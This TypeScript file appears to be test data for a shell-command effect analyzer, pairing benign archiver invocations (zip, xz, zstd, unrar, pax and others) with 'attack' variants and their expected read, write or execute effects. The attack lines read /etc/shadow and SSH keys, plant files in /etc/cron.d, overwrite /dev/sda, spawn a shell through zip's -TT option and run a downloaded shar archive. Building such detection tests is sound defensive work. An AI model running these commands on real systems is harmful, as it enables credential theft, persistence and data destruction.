import type { ExampleTable } from './example.ts'

export const archivers2: ExampleTable = {
  'patool list': {
    use: 'patool list a.zip → use a.zip',
  },
  pax: {
    use: 'pax -w -f out.tar src → read-tree src; write out.tar',
    attack: [
      'pax -w -f out.tar /root → read-tree /root; write out.tar',
      'pax -w -f /dev/sda src → read-tree src; write /dev/sda',
    ],
  },
  pixz: {
    use: 'pixz src.tar src.tpxz → read src.tar; write src.tpxz',
    attack: [
      'pixz /etc/shadow out.xz → read /etc/shadow; write out.xz',
      'pixz -d job.xz /etc/cron.d/job → read job.xz; write /etc/cron.d/job',
    ],
  },
  ptardiff: {
    use: 'ptardiff App-1.0.tar.gz → read App-1.0.tar.gz',
    attack: 'ptardiff /var/backups/shadow.tar.gz → read /var/backups/shadow.tar.gz',
  },
  pxz: {
    use: 'pxz notes.txt → read notes.txt',
    attack: 'pxz -c /etc/shadow → read /etc/shadow',
  },
  pzstd: {
    use: 'pzstd notes.txt → read notes.txt',
    attack: [
      'pzstd -c /etc/shadow → read /etc/shadow',
      'pzstd -d -f -o /etc/cron.d/job job.zst → read job.zst; write /etc/cron.d/job',
    ],
  },
  rapidgzip: {
    use: 'rapidgzip -d a.gz → read a.gz',
    attack: 'rapidgzip -d -f -o /etc/cron.d/job job.gz → read job.gz; write /etc/cron.d/job',
  },
  rar: {
    use: 'rar a out.rar src → read-tree src; write out.rar',
    attack: 'rar a out.rar /root → read-tree /root; write out.rar',
  },
  rzip: {
    use: 'rzip -k notes.txt → read notes.txt',
    attack: [
      'rzip -k -o out.rz /etc/shadow → read /etc/shadow; write out.rz',
      'rzip -d -f -o /etc/cron.d/job job.rz → read job.rz; write /etc/cron.d/job',
    ],
  },
  shar: { use: 'shar src → read-tree src', attack: 'shar /root → read-tree /root' },
  snzip: {
    use: 'snzip -k notes.txt → read notes.txt',
    attack: 'snzip -c /etc/shadow → read /etc/shadow',
  },
  sqfs2tar: {
    use: 'sqfs2tar a.squashfs → read a.squashfs',
    attack: 'sqfs2tar /var/backups/shadow.squashfs → read /var/backups/shadow.squashfs',
  },
  tar2sqfs: {
    use: 'tar2sqfs out.squashfs < a.tar → write out.squashfs',
    attack: 'tar2sqfs -f /dev/sda < a.tar → write /dev/sda',
  },
  tarlz: {
    use: 'tarlz -cf out.tar.lz src → read-tree src',
    attack: 'tarlz -cf out.tar.lz /root → read-tree /root',
  },
  unar: {
    use: 'unar a.zip → read a.zip; unpack .',
    attack: 'unar -o /etc/cron.d a.zip → unpack /etc/cron.d; read a.zip',
  },
  unarj: {
    use: ['unarj x a.arj → read a.arj; unpack .', 'unarj l a.arj → nothing'],
    attack: 'cd /etc/cron.d && unarj x /tmp/a.arj → read /tmp/a.arj; unpack /etc/cron.d/.',
  },
  uncompress: {
    use: 'uncompress a.Z → read a.Z; write a',
    attack: 'uncompress -c /var/backups/shadow.Z → read /var/backups/shadow.Z',
  },
  unlz4: {
    use: 'unlz4 a.lz4 a.txt → read a.lz4; write a.txt',
    attack: 'unlz4 -f job.lz4 /etc/cron.d/job → read job.lz4; write /etc/cron.d/job',
  },
  unpigz: {
    use: 'unpigz a.gz → read a.gz; write a',
    attack: 'unpigz -cf /etc/shadow → read /etc/shadow',
  },
  unrar: {
    use: 'unrar x a.rar out → read a.rar; unpack .; unpack out',
    attack: 'unrar x a.rar /etc/cron.d → read a.rar; unpack .; unpack /etc/cron.d',
  },
  unshar: {
    use: 'unshar -d out app.shar → read app.shar; unpack out',
    attack: [
      'unshar -d /etc/cron.d app.shar → read app.shar; unpack /etc/cron.d',
      'curl -so app.shar https://example.org/app && unshar app.shar → execute ‹https://example.org/app›',
    ],
  },
  unshield: {
    use: [
      'unshield -d out x data1.cab → read data1.cab; unpack out',
      'unshield l data1.cab → nothing',
    ],
    attack: 'unshield -d /etc/cron.d x data1.cab → read data1.cab; unpack /etc/cron.d',
  },
  unsquashfs: {
    use: 'unsquashfs -d out a.squashfs → read a.squashfs; unpack out',
    attack: 'unsquashfs -f -d /etc/cron.d a.squashfs → read a.squashfs; unpack /etc/cron.d',
  },
  unzip: {
    use: 'unzip a.zip → read a.zip; unpack .',
    attack: 'unzip a.zip -d /etc/cron.d → read a.zip; unpack /etc/cron.d',
  },
  unzstd: {
    use: 'unzstd a.zst → read a.zst; write a',
    attack: [
      'unzstd -cf /etc/shadow → read /etc/shadow',
      'unzstd -f -o /etc/cron.d/job job.zst → read job.zst; write /etc/cron.d/job',
    ],
  },
  xorriso: {
    use: 'xorriso -outdev out.iso -map src /src → read-tree src; write out.iso',
    attack: 'xorriso -outdev out.iso -map /root /root → read-tree /root; write out.iso',
  },
  xz: {
    use: 'xz notes.txt → read notes.txt; replace notes.txt',
    attack: ['xz -c /etc/shadow → read /etc/shadow', 'xz --files=/etc/shadow → read /etc/shadow'],
  },
  xzcmp: {
    use: 'xzcmp a.xz b.xz → read a.xz; read b.xz',
    attack: 'xzcmp -l /etc/shadow zeros.xz → read /etc/shadow; read zeros.xz',
  },
  xzdec: {
    use: 'xzdec a.xz → read a.xz',
    attack: 'xzdec /root/.ssh/id_ed25519.xz → read /root/.ssh/id_ed25519.xz',
  },
  xzdiff: {
    use: 'xzdiff a.xz b.xz → read a.xz; read b.xz',
    attack: 'xzdiff /etc/shadow empty.xz → read /etc/shadow; read empty.xz',
  },
  xzmore: { use: 'xzmore a.xz → read a.xz', attack: 'xzmore /etc/shadow → read /etc/shadow' },
  zcat: {
    use: 'zcat a.gz → read a.gz',
    attack: 'zcat -f /etc/shadow → read /etc/shadow',
  },
  zcmp: {
    use: 'zcmp a.gz b.gz → read a.gz; read b.gz',
    attack: 'zcmp -l /etc/shadow zeros.gz → read /etc/shadow; read zeros.gz',
  },
  zdiff: {
    use: 'zdiff a.gz b.gz → read a.gz; read b.gz',
    attack: 'zdiff /etc/shadow empty.gz → read /etc/shadow; read empty.gz',
  },
  zip: {
    use: 'zip -r out.zip src → read-tree src; write out.zip',
    attack: [
      'zip -r out.zip /root → read-tree /root; write out.zip',
      "zip out.zip src -T -TT 'sh #' → shell sh; read-tree src; write out.zip",
    ],
  },
  zipcloak: {
    use: 'zipcloak a.zip → edit a.zip',
    attack: 'zipcloak -O /etc/passwd a.zip → read a.zip; write /etc/passwd',
  },
  zipcmp: {
    use: 'zipcmp a.zip b.zip → use a.zip; use b.zip',
  },
  zipdetails: {
    use: 'zipdetails a.zip → use a.zip',
  },
  zipinfo: {
    use: 'zipinfo a.zip → use a.zip',
  },
  zipmerge: {
    use: 'zipmerge out.zip a.zip b.zip → read a.zip; read b.zip; write out.zip',
    attack:
      'zipmerge out.zip /var/backups/shadow.zip → read /var/backups/shadow.zip; write out.zip',
  },
  zipnote: {
    use: 'zipnote a.zip → use a.zip',
  },
  zipsplit: {
    use: 'zipsplit -n 1000000 -b out a.zip → read a.zip; unpack out',
    attack: 'zipsplit -b out /var/backups/shadow.zip → read /var/backups/shadow.zip; unpack out',
  },
  ziptool: {
    use: 'ziptool a.zip cat 0 → edit a.zip',
    attack: 'ziptool out.zip add_file shadow /etc/shadow 0 -1 → read /etc/shadow; edit out.zip',
  },
  zless: { use: 'zless a.gz → read a.gz', attack: 'zless /etc/shadow → read /etc/shadow' },
  zmore: { use: 'zmore a.gz → read a.gz', attack: 'zmore /etc/shadow → read /etc/shadow' },
  zopfli: {
    use: 'zopfli notes.txt → read notes.txt',
    attack: 'zopfli -c /etc/shadow → read /etc/shadow',
  },
  zpaq: {
    use: 'zpaq a out.zpaq src → read-tree src; write out.zpaq',
    attack: 'zpaq a out.zpaq /root → read-tree /root; write out.zpaq',
  },
  zstd: {
    use: 'zstd notes.txt → read notes.txt',
    attack: [
      'zstd -c /etc/shadow → read /etc/shadow',
      'zstd -d -f -o /etc/cron.d/job job.zst → read job.zst; write /etc/cron.d/job',
    ],
  },
  zstdless: {
    use: 'zstdless a.zst → read a.zst',
    attack: 'zstdless /etc/shadow → read /etc/shadow',
  },
  'rar e': {
    use: 'rar e a.rar → read a.rar; unpack .',
    attack: 'rar e a.rar /etc/cron.d/ → read a.rar; unpack /etc/cron.d/',
  },
  'rar x': {
    use: 'rar x a.rar → read a.rar; unpack .',
    attack: 'rar x a.rar /etc/cron.d/ → read a.rar; unpack /etc/cron.d/',
  },
  'zpaq x': {
    use: 'zpaq x a.zpaq -to out → read a.zpaq; unpack out',
    attack: 'zpaq x a.zpaq -to /etc/cron.d → read a.zpaq; unpack /etc/cron.d',
  },
  arc: {
    use: 'arc a out.arc notes.txt → read-tree notes.txt; edit out.arc',
    attack: 'arc a out.arc /etc/shadow → read-tree /etc/shadow; edit out.arc',
  },
  asar: {
    use: 'asar p src app.asar → read-tree src; write app.asar',
    attack: 'asar p /root app.asar → read-tree /root; write app.asar',
  },
  atool: {
    use: 'atool -x a.zip -X out → read a.zip; unpack out',
    attack: 'atool -x a.zip -X /etc/cron.d → read a.zip; unpack /etc/cron.d',
  },
  lha: {
    use: 'lha a out.lzh src → read-tree src; write out.lzh',
    attack: 'lha a out.lzh /root → read-tree /root; write out.lzh',
  },
  ouch: {
    use: 'ouch x a.zip --dir out → read-tree a.zip; unpack out',
    attack: 'ouch x a.zip --dir /etc/cron.d → read-tree a.zip; unpack /etc/cron.d',
  },
  ptar: {
    use: 'ptar -cf out.tar notes.txt → read notes.txt; edit out.tar',
    attack: 'ptar -cf out.tar /etc/shadow → read /etc/shadow; edit out.tar',
  },
  unace: {
    use: ['unace x a.ace → read a.ace; unpack .', 'unace l a.ace → nothing'],
    attack: 'cd /etc/cron.d && unace x /tmp/a.ace → read /tmp/a.ace; unpack /etc/cron.d/.',
  },
  zoo: {
    use: 'zoo a out.zoo notes.txt → read-tree notes.txt; edit out.zoo',
    attack: 'zoo a out.zoo /etc/shadow → read-tree /etc/shadow; edit out.zoo',
  },
}
